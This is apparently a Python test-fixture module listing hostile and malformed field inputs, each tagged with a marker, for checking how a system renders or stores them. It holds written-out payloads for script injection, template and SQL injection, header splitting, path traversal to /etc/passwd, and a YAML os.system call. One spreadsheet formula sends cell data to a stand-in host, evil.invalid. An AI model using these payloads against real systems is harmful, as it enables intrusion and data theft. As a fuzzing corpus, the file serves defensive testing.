"""What people with bad intent, bad keyboards and bad clipboards type into fields: every kind that breaks some system out there.

Each holds the mark, so that it is found wherever it comes out again; none is good for anything but to break what shows it.
"""

from collections.abc import Mapping

MARK = "zq9mark"
SUM = "1787569"
"""1337 × 1337: it stands on a page only if somebody computed it, for nothing says it."""
_LONG = 40_000

CORPUS: Mapping[str, bytes] = {
    name: value if isinstance(value, bytes) else value.encode()
    for name, value in {
        "script": f"<script>window.{MARK}=1;alert(1)</script>",
        "attribute": f'"><img src=x onerror="window.{MARK}=1;alert(1)"><a title=\'',
        "handler": f'{MARK}" autofocus onfocus="alert(1)" x="\' onmouseover=\'alert(1)',
        "end_of_element": f"</textarea></select></title></script><svg/onload=alert(1)><{MARK}>",
        "address": f"javascript:alert(1)//{MARK}",
        "data_address": f"data:text/html,<script>alert(1)</script>{MARK}",
        "elsewhere": f"//evil.invalid/{MARK}",
        "whole_elsewhere": f"https://evil.invalid/{MARK}",
        "template": MARK + "{{1337*1337}}${1337*1337}#{1337*1337}<%= 1337*1337 %>{% debug %}",
        "sql": f"{MARK}' OR '1'='1'; DROP TABLE cases;--",
        "sql_like": f"{MARK}%_\\%",
        "formula": f'=HYPERLINK("http://evil.invalid/"&A1,"{MARK}")',
        "formula_plus": f"+1337*1337+{MARK}",
        "formula_minus": f"-1337*1337-{MARK}",
        "formula_at": f"@SUM(1337*1337)|{MARK}",
        "formula_tab": f"\t=1337*1337+{MARK}",
        "lines": f"{MARK}\r\nSet-Cookie: {MARK}=1\r\n\r\n<html>",
        "encoded_lines": f"{MARK}%0d%0aSet-Cookie:%20{MARK}=1",
        "path": f"../../../../../../etc/passwd{MARK}",
        "encoded_path": f"..%2f..%2f..%2fetc%2fpasswd%00{MARK}",
        "windows_path": f"C:\\..\\..\\{MARK}\\NUL",
        "bidi": f"\u202e{MARK}\u2066\u2069\u202c",
        "zero_width": f"\u200b{MARK}\u2060\ufeff\u200d",
        "controls": f"{MARK}\x01\x07\x08\x1b[31m\x7f\x85",
        "nul": f"{MARK}\x00{MARK}",
        "overlong": b"\xc0\xbc" + MARK.encode() + b"\xe0\x80\xaf",
        "surrogate": b"\xed\xa0\x80" + MARK.encode() + b"\xed\xbf\xbf",
        "no_utf8": b"\xff\xfe" + MARK.encode(),
        "noncharacter": f"\ufffe{MARK}\U0010ffff",
        "combining": MARK + "\u0301" * 300,
        "beyond_the_plane": f"𠮷{MARK}👨‍👩‍👧",
        "long": MARK + "长" * _LONG,
        "typst": f'#set page(width: 1pt); #read("/etc/passwd") $ x $ *{MARK}* @{MARK} <{MARK}> ` #eval("1337*1337") ]',
        "json": f'{{"{MARK}": [[[[1e999, NaN',
        "markdown": f"[{MARK}](javascript:alert(1)) ![](//evil.invalid/x)",
        "yaml": f"{MARK}: !!python/object/apply:os.system ['true']",
        "format": MARK + "%s%n%x{0.__class__}{request}",
        "number": b"1e309",
        "big_number": b"9" * 400,
        "negative": b"-1",
        "other_digits": "١٢٣４５".encode(),
        "empty": b"",
        "blank": "\u3000 \t ".encode(),
    }.items()
}
"""What is typed, by its name."""
KEEPSAKES = (
    "script",
    "attribute",
    "handler",
    "end_of_element",
    "address",
    "template",
    "formula",
    "bidi",
    "typst",
    "format",
)
"""Those that some fields take, for a name may be any text: what is kept of them comes out on many pages."""
FILE_NAMES: Mapping[str, str] = {
    name: f"{CORPUS[name].decode()}.png"
    for name in ("script", "attribute", "path", "windows_path", "bidi", "formula", "template", "encoded_lines")
}
"""Names of files."""
